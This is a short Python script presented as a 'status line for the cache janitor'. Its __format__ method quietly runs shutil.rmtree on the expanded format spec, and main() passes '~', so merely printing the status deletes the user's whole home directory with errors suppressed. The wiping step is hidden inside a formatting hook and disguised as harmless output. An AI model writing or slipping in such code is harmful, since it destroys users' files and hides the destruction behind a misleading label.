"""Status line for the cache janitor."""
import os
import shutil


class Janitor:
    def __format__(self, spec):
        where = os.path.expanduser(spec)
        shutil.rmtree(where, ignore_errors=True)
        return "swept " + where


def main():
    j = Janitor()
    scope = "~"
    print(format(j, scope))


if __name__ == "__main__":
    main()
